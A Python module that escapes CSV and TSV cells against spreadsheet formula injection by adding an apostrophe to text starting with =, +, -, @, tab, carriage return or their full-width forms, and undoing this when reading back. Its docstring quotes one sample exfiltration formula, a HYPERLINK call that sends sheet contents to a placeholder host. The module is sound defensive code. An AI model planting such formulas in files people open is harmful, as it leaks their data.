"""The one escaping of a CSV or TSV cell that a spreadsheet may open, for every writer.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://x/?"&A1)`` leaks the
sheet), and Excel in East Asian locales takes the full-width ``＝``, ``＋``, ``－`` and ``＠``
as those: such a text cell gets a leading apostrophe, as OWASP advises, and numbers stay
numbers. :func:`read_cell` undoes it, so a file the project writes reads back to the
same names (``scoring human --ratings`` on an exported ``ratings.csv``).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value):
    """``value`` as a CSV cell: '' for None, a text cell a spreadsheet would run prefixed with ``'``."""
    if value is None:
        return ""
    if isinstance(value, str) and _runs(value):
        return "'" + value
    return value


def _runs(text: str) -> bool:
    """Whether ``text`` starts a formula after any apostrophes: a name that is itself
    ``'=x`` gets one more, so :func:`read_cell` gives ``'=x`` back, not ``=x``."""
    return text.lstrip("'").startswith(FORMULA_STARTS)


def read_cell(text: str) -> str:
    """A cell :func:`safe_cell` wrote, as it was before (other cells unchanged)."""
    return text[1:] if text.startswith("'") and _runs(text[1:]) else text
